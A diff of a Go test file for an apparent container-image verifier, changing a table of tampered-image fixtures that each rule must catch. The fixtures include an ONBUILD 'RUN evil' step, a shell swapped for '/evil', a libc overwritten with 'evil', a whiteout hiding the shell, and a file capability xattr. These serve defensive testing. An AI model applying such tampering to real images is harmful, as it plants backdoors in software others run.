+		"a runtime of a tree": asTree(func(f *fixture) { f.annotations["run.oci.handler"] = "krun" }),
+		"another base":        func(f *fixture) { f.annotations["org.opencontainers.image.base.digest"] = "sha256:0" },
+		"another of a tree":   asTree(func(f *fixture) { f.annotations["org.opencontainers.image.base.digest"] = "sha256:0" }),
+		"no base":             asTree(func(f *fixture) { f.annotations = nil }),
+		"a title":             func(f *fixture) { f.annotations["org.opencontainers.image.title"] = "slim" },
+		"another slimctl":     func(f *fixture) { f.annotations["slimctl.version"] = "v0.0.1" },
+	},
+	"config": {
+		"a variable twice": asTree(func(f *fixture) { f.config.Config.Env = []string{"A=", "B=", "A="} }),
+		"no variable":      asTree(func(f *fixture) { f.config.Config.Env = []string{"A"} }),
+		"ONBUILD":          asTree(func(f *fixture) { f.config.Config.OnBuild = []string{"RUN evil"} }),
+
+		"not the base's user":         built(`"User":"gem"`, `"User":"root"`),
+		"without the base's user":     built(`"User":"gem",`, ``),
+		"not the base's directory":    built(`"/home/gem"`, `"/"`),
+		"not the base's variable":     built(`BASE=1`, `BASE=2`),
+		"blank in place of a value":   asTree(built(`BASE=1`, `BASE=`)),
+		"without the base's variable": built(`,"BASE=1"`, ``),
+		"without it, of a tree":       asTree(built(`,"BASE=1"`, ``)),
+		"one more variable":           built(`"BASE=1"`, `"BASE=1","MORE="`),
+		"one more of a tree":          asTree(built(`"BASE=1"`, `"BASE=1","MORE=x"`)),
+		"another order":               built(`"PATH=/usr/bin:/bin","BASE=1"`, `"BASE=1","PATH=/usr/bin:/bin"`),
+		"not the base's volume":       built(`{"/data":{}}`, `{"/data":{},"/etc":{}}`),
+		"not the base's stop signal":  built(`"SIGTERM"`, `"SIGKILL"`),
+		"not the base's shell":        built(`["/bin/sh","-c"]`, `["/evil","-c"]`),
+		"health check's times":        built(`"Interval":10000000000`, `"Interval":1`),
+		"a key of the health check":   built(`"Interval":`, `"StartInterval":1,"Interval":`),
+		"a key that no build writes":  built(`"StopSignal"`, `"MacAddress":"02:42:ac:11:00:02","StopSignal"`),
+		"a key beside it":             built(`"os":"linux"`, `"os":"linux","author":"evil"`),
+		"another kind of rootfs":      built(`"type":"layers"`, `"type":"evil"`),
+		"another time":                built(`"created":"2026-05-12T08:00:00Z","os"`, `"created":"2026-05-12T08:00:01Z","os"`),
+		"other layers":                built(`"sha256:1"`, `"sha256:2"`),
+		"another variant":             built(`"os":"linux"`, `"os":"linux","variant":"v3"`),
+		"another system":              built(`"os":"linux"`, `"os":"linux","os.version":"10.0"`),
+		"a key twice":                 built(`"User":"gem"`, `"User":"root","User":"gem"`),
+		"a key in another case":       built(`"User":"gem"`, `"User":"gem","user":""`),
+		"a key of another alphabet":   built(`"User":"gem"`, `"User":"gem","U\u017fer":""`),
+		"a key of all in two cases":   built(`"os":"linux"`, `"os":"linux","Config":{"User":"root"}`),
+		"two configs":                 built(`"rootfs":`, `"config":{},"rootfs":`),
+		"more behind it":              built(`"created_by":"ours"}]}`, `"created_by":"ours"}]}{"config":{}}`),
+		"no object":                   built(`"config":{`, `"config":[],"Config":{`),
+		"too deep":                    built(`"os":"linux"`, `"os":"linux","x":`+strings.Repeat(`{"x":`, 100_000)+"1"+strings.Repeat("}", 100_000)),
+		"not the base's label":        built(`"maker":"base"`, `"maker":"evil"`),
+		"neither's label":             asTree(built(`"maker":"base"`, `"maker":"base","traefik.enable":"true"`)),
+		"an empty label":              asTree(built(`"maker":"base"`, `"maker":"base","empty":""`)),
+		"a label of objects":          asTree(built(`"maker":"base"`, `"maker":{"a":["b"]}`)),
+		"the base's label away":       built(`"maker":"base",`, ``),
+		"a label that describes":      built(`image.version":"1"`, `image.version":"2"`),
+	},
+	"history": {
+		"another step":      built(`"created_by":"base"`, `"created_by":"evil"`),
+		"an empty layer":    built(`"created_by":"base"`, `"created_by":"base","empty_layer":true`),
+		"one more":          built(`"created_by":"ours"}`, `"created_by":"ours"},{"created_by":"evil"}`),
+		"none":              built(`,{"created":"2026-05-12T08:00:00Z","created_by":"ours"}`, ``),
+		"of another author": built(`"created_by":"ours"`, `"created_by":"ours","author":"evil"`),
+		"at another time":   built(`"created":"2026-05-12T08:00:00Z","created_by":"ours"`, `"created":"2026-05-12T08:00:01Z","created_by":"ours"`),
+	},
+	"base-layer": {
+		"another": func(f *fixture) { f.base = f.base[1:] },
+		"away":    func(f *fixture) { f.base, f.laid = f.laid, nil },
+	},
+	"layer": {
+		"one more":     func(f *fixture) { f.addAbove(image.Bytes("/usr/sbin/nginx", 0o755, program(0x3e))) },
+		"an empty one": func(f *fixture) { f.addAbove() },
+		"one twice":    func(f *fixture) { f.addAbove(f.laid...) },
+		"more in ours": func(f *fixture) { f.laid = append(f.laid, text("/usr/lib/libc.so.6", "evil")) },
+		"other times":  func(f *fixture) { f.laid[5].ModTime = time.Unix(1e9, 0) },
+	},
+	"file": {
+		"a program of the base":     func(f *fixture) { f.addAbove(image.Bytes("/usr/sbin/nginx", 0o755, program(0x3e))) },
+		"a directory's mode":        func(f *fixture) { f.addAbove(image.Dir("/usr/bin", 0o777)) },
+		"a new directory":           func(f *fixture) { f.addAbove(image.Dir("/srv/x", 0o755)) },
+		"a removal":                 func(f *fixture) { f.addAbove(image.Whiteout("/usr/bin/Xvnc")) },
+		"an opaque directory":       func(f *fixture) { f.addAbove(text("/usr/bin/.wh..wh..opq", "")) },
+		"hidden":                    func(f *fixture) { f.addAbove(image.Whiteout(shell)) },
+		"hidden with its directory": func(f *fixture) { f.addAbove(image.Whiteout("/opt/agent-browser")) },
+		"not laid":                  func(f *fixture) { f.laid = f.laid[1:] },
+		"its directory a link":      func(f *fixture) { f.addAbove(image.Symlink("/etc/agent-browser", "/tmp")) },
+		"content":                   func(f *fixture) { f.laid[0] = image.Bytes(shell, 0o755, program(0xb7)) },
+		"a symlink":                 func(f *fixture) { f.laid[0] = image.Symlink(shell, "/usr/local/bin/browser") },
+		"a hard link": func(f *fixture) {
+			f.addAbove(image.File{Entry: image.Entry{Path: conf, Type: image.TypeLink, Link: nginxConf}})
+		},
+		"link's end": func(f *fixture) { f.laid[4].Link = "/tmp/x" },
+		"mode":       func(f *fixture) { f.laid[8].Mode = 0o666 },
+		"owner":      func(f *fixture) { f.laid[8].UID = 1000 },
+		"xattr":      func(f *fixture) { f.laid[0].Xattrs = map[string]string{"security.capability": "\x01"} },
+		"a module":   func(f *fixture) { f.laid = append(f.laid, text("/opt/agent-browser/node_modules/x/index.js", "evil")) },
+
+		"of a tree":             asTree(func(f *fixture) { f.addAbove(image.Bytes("/usr/sbin/nginx", 0o755, program(0xb7))) }),
+		"a removal of a tree":   asTree(func(f *fixture) { f.addAbove(image.Whiteout("/usr/bin/Xvnc")) }),
+		"a directory of a tree": asTree(func(f *fixture) { f.addAbove(image.Dir("/usr/bin", 0o777)) }),
+		"xattr of a tree":       asTree(func(f *fixture) { f.laid[0].Xattrs = map[string]string{"security.capability": "\x01"} }),
+	},
+	"layer-archive": {
+		"not as a build's": asTree(func(f *fixture) {
+			f.addAbove(text("/srv/x", ""))
+			f.prepare = func(img, _ *inspect.Image) { img.Files.Layers[2].Foreign = "a user's name" }
+		}),
+		"not gzip": asTree(func(f *fixture) {
+			f.addAbove(text("/srv/x", ""))
+			f.prepare = func(img, _ *inspect.Image) { img.Files.Layers[2].Compression = "none" }
+		}),
 	},
 	"platform": {
 		"missing": func(*fixture) {}, // TestPlatforms has the others
@@ -884,18 +800,11 @@ var broken = map[string]map[string]func(*fixture){
 	},
 	"package-not-understood": {
 		"a note": func(f *fixture) {
-			f.prepare = func(img *inspect.Image, _ *expect.Expect) {
+			f.prepare = func(img, _ *inspect.Image) {
 				img.Packages.Notes = []tree.Note{{Text: "what is this?"}}
 				img.Surface.Notes = img.Packages.Notes
 			}
 		},
-	},
-	"not-read": {
-		"MCP":      func(f *fixture) { f.surface.MCP = nil },
-		"start":    func(f *fixture) { f.surface.Start = nil },
-		"accounts": func(f *fixture) { f.surface.Privilege = nil },
-		"programs": func(f *fixture) { f.surface.Supervisord = nil },
-		"files":    func(f *fixture) { f.want.Files = []expect.File{} },
 	},
 }
 
@@ -906,16 +815,6 @@ func TestGoodImagePasses(t *testing.T) {
 	}
 	if !r.Passed || len(r.Rules) < 50 {
 		t.Errorf("passed %v with %d rules", r.Passed, len(r.Rules))
-	}
-}
-
-// What the build was told, and what describes the image, is no finding.
-func TestToldAnnotationsPass(t *testing.T) {
-	f := good()
-	f.annotations["team"], f.index["team"], f.annotations["org.opencontainers.image.title"] = "a", "b", "c"
-	f.want.Annotations, f.want.IndexAnnotations = map[string]string{"team": "a"}, map[string]string{"team": "b"}
-	if r := check(t, f.input(t)); len(r.Findings) > 0 {
-		t.Error(describe(r))
 	}
 }
 
@@ -934,6 +833,9 @@ func TestEveryRuleFinds(t *testing.T) {
 				f := good()
 				breakIt(f)
 				in := f.input(t)
+				if rule.ID == "index" {
+					in.Index = []byte("{}")
+				}
 				if strings.HasPrefix(rule.ID, "platform") {
 					in = twoPlatforms(t)
 					if rule.ID == "platform" {
@@ -947,10 +849,10 @@ func TestEveryRuleFinds(t *testing.T) {
 					if found.Rule != rule.ID {
 						continue
 					}
-					if found.Message == "" || found.Severity != rule.Severity || found.Fix == "" || found.Platform == "" && !strings.HasSuffix(rule.ID, "annotation") {
+					if found.Message == "" || found.Severity != rule.Severity || found.Fix == "" || found.Platform == "" && rule.ID != "index" {
 						t.Errorf("%+v", found)
 					}
-					if r.Passed != (rule.Severity != verify.Error && !hasError(r) && !slices.Contains(ruleIDs(r), verify.BaseKnown)) {
+					if r.Passed != (rule.Severity != verify.Error && !hasError(r) && r.Proven != "") {
 						t.Errorf("passed is %v", r.Passed)
 					}
 					return
@@ -989,6 +891,7 @@ func twoPlatforms(t *testing.T) verify.Input {
 	other.Images[0].Platform.Variant = "v8" // which linux/arm64 means
 	in.Images = append(in.Images, other.Images...)
 	in.Expect["linux/arm64"] = other.Expect["linux/arm64"]
+	in.Want.Images["linux/arm64"] = other.Want.Images["linux/arm64"]
 	return in
 }
 
@@ -1007,7 +910,6 @@ func TestPlatforms(t *testing.T) {
 		"route":      {func(in *verify.Input) { in.Images[0].Surface.Routes = []nginx.Route{{Path: "/v1"}} }, "platform-differs", "/v1"},
 		"account":    {func(in *verify.Input) { in.Images[1].Surface.Privilege.Users[1].Shell = "/bin/false" }, "platform-differs", "/bin/false"},
 		"tool":       {func(in *verify.Input) { in.Images[1].Surface.MCP.Configs[0].Servers[0].Tools = nil }, "platform-differs", "browser_shell"},
-		"base":       {func(in *verify.Input) { in.Expect["linux/arm64"].Base.Layers = []string{"sha256:0"} }, "platform-differs", "not both made from the base"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			in := twoPlatforms(t)
